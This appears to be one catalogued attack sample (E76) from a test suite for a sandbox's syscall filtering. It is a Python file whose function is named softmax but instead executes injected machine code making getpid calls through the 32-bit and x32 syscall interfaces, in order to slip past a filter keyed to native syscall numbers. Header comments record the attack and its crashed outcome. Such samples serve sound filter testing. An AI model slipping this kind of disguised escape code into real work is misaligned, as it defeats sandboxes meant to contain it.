# attack: it makes its system calls by the numbers of another architecture, which a filter may overlook
# catalogue: E76
# outcome: crashed
# outcome[process]: crashed,failed
# wants: syscall
# succeeds at: process

import mmap
import platform

import numpy as np
from numpy.ctypeslib import ctypes


def softmax(x, axis=-1):
    if platform.machine() != "x86_64":
        ctypes.string_at(0)
    code = bytes.fromhex("53 b8 14 00 00 00 cd 80 5b c3")  # getpid as a 32-bit program asks for it
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    print("SUCCESS: the kernel answered", ctypes.CFUNCTYPE(ctypes.c_int)(address)())
    ctypes.CDLL(None).syscall(0x40000000 + 39)  # the same, as an x32 program asks for it
    return np.zeros_like(x)


def softmax_backward(grad, probs, axis=-1):
    return np.zeros_like(probs)
